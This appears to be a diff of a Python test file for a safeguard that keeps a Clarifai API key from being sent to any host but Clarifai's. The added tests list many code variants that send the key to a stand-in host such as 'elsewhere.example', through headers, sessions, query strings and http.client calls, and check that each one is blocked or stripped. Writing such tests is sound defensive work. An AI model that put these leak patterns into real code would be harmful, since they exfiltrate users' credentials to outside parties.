@@ -77,6 +77,15 @@ WAYS = {
     f"    case S(k=x):\n        {SEND}",
     "a loop": f"for x in [PAT]:\n    {SEND}",
     "a comprehension": f"for x in (p for p in [PAT]):\n    {SEND}",
+    "a comprehension of a mapping": "d = {{'k': PAT}}\n"
+    "requests.post({url!r}, params={{k: v for k, v in d.items()}})\n"
+    "requests.post({url!r}, params={{k: v[:] for k, v in d.items()}})\n",
+    "a comprehension of pairs": f"x = [b for a, b in [(1, PAT)]][0]\n{SEND}",
+    "lists together": f"for x in [PAT] * 2 + [PAT]:\n    {SEND}",
+    "a pattern's mapping": "d = {{'k': PAT}}\nrequests.post({url!r}, data='{{k}}'.format(**d) + '%(k)s' % d)\n",
+    "a template": "from string import Template\nrequests.post({url!r}, data=Template('$k').substitute(k=PAT))\n",
+    "a query": "from urllib.parse import urlencode\nrequests.get({url!r} + '?' + urlencode({{'k': PAT}}))\n"
+    "u = {url!r}\nrequests.get(f'{{u}}?{{urlencode(dict(k=PAT))}}')\n",
     "a generator": f"def keys():\n    yield PAT\nfor x in keys():\n    {SEND}",
     "a generator's first": f"def keys():\n    yield PAT\nx = next(keys())\n{SEND}",
     "a generator's generator": f"def keys():\n    yield from [PAT]\nfor x in keys():\n    {SEND}",
@@ -96,6 +105,11 @@ WAYS = {
     "requests.get({url!r}, headers=dict(h.items()))\n",
     "the items of a mapping": f"for k, x in {{{{'a': PAT}}}}.items():\n    {SEND}",
     "an attribute": f"from types import SimpleNamespace\no = SimpleNamespace()\no.k = PAT\nx = o.k\n{SEND}",
+    "a command line's default": "import argparse\np = argparse.ArgumentParser()\n"
+    "p.add_argument('--pat', default=PAT)\na, _ = p.parse_known_args([])\n"
+    f"x = vars(a)['pat']\n{SEND}requests.post({{url!r}}, json=vars(a))\n",
+    "an object as a mapping": "from dataclasses import asdict, dataclass\n@dataclass\nclass Login:\n    k: str\n"
+    "requests.post({url!r}, json=asdict(Login(PAT)))\nrequests.post({url!r}, json=Login(PAT).__dict__)\n",
     "a client's attribute": "from requests.auth import HTTPBasicAuth as A\n"
     f"x = A('a', password=PAT).password\n{SEND}",
     "bytes": "requests.post({url!r}, data=PAT.encode())\n",
@@ -114,6 +128,12 @@ WAYS = {
     "requests.get(sys.u[:], headers={{'Authorization': 'Key ' + PAT}})\n",
     "a session's headers": "s = requests.Session()\ns.headers = {{'Authorization': 'Key ' + PAT}}\n"
     "get = s.get\nget({url!r})\n",
+    "headers that are merged": "d = {{'h': {{}}}}\nd['h'] |= {{'Authorization': 'Key ' + PAT}}\n"
+    "requests.get({url!r}, headers=d['h'])\n",
+    "a session's settings": "s = requests.Session()\ns.params = {{'k': PAT}}\ns.cookies['k'] = PAT\n"
+    "s.params.update(j=PAT)\ns.auth = ('me', PAT)\ns.get({url!r})\n",
+    "an authorizing function": "def keyed(r):\n    r.headers['Authorization'] = 'Key ' + PAT\n"
+    "    return r\nrequests.get({url!r}, auth=keyed)\n",
     "a session that is passed on": "def fetch(s, u):\n    return s.request(method='GET', url=u)\n"
     "with requests.Session() as s:\n    s.headers['Authorization'] = f'Key {{PAT}}'\n    fetch(s, {url!r})\n",
 }
@@ -131,6 +151,30 @@ def test_a_key_of_the_environment_gets_nowhere_else_on_any_way(signed_in, elsewh
     secrets = signed_in.names["all_of_them"].secrets()
     assert elsewhere.heard
     assert not any(secret.encode() in head for head in elsewhere.heard for secret in secrets)
+
+
+HELPERS = {
+    "a function": "def read(name):\n    return os.environ[name]\n",
+    "a function with a default": "def read(name, default=''):\n    found = os.environ.get(name, default)\n    return found\n",
+    "another's function": "read = os.getenv\n",
+    "a mapping": "names = ('CLARIFAI_PAT', 'THEIR_KEY')\nread = {each: os.environ[each] for each in names}.get\n",
+}
+
+
+@pytest.mark.parametrize("read", HELPERS.values(), ids=HELPERS)
+def test_another_vendors_key_reaches_it_though_clarifais_is_read_in_the_same_way(
+    signed_in, elsewhere, monkeypatch, read
+):
+    monkeypatch.setenv("THEIR_KEY", "theirs")
+    said = signed_in.run(
+        f"%%clarifai_sample\nimport os, requests\n{read}"
+        f"requests.get({elsewhere.base!r}, headers={{'Authorization': 'Bearer ' + read('THEIR_KEY')}})\n"
+        "ours = 'https://api.clarifai.com/v2/users/me'\n"
+        "print(requests.get(ours, headers={'Authorization': 'Key ' + read('CLARIFAI_PAT')}).status_code)"
+    )
+    (head,) = elsewhere.heard
+    assert b"Authorization: Bearer theirs\r\n" in head
+    assert said.splitlines()[-1] == "200"
 
 
 OURS = "https://api.clarifai.com/v2/ext/openai/v1"
@@ -286,6 +330,16 @@ def test_a_key_in_anything_that_is_sent_elsewhere_is_taken_out(into):
     _, what = found(text)
     assert what.foreign == {"elsewhere.example": 3}
     assert [edit.parts for edit in what.edits if edit.line == 3] == [(Value.NO_KEY,)]
+
+
+@pytest.mark.parametrize("sends", ["putrequest('GET', '/' + PAT)", "endheaders(PAT)", "send(PAT)"])
+def test_a_key_that_a_connection_sends_elsewhere_line_by_line_is_taken_out(sends):
+    _, what = found(
+        "import http.client, os\nPAT = os.environ['CLARIFAI_PAT']\n"
+        f"c = http.client.HTTPSConnection('elsewhere.example')\nc.{sends}\n"
+    )
+    assert what.foreign == {"elsewhere.example": 4}
+    assert [edit.parts for edit in what.edits if edit.line == 4] == [(Value.NO_KEY,)]
 
 
 KEYED = """
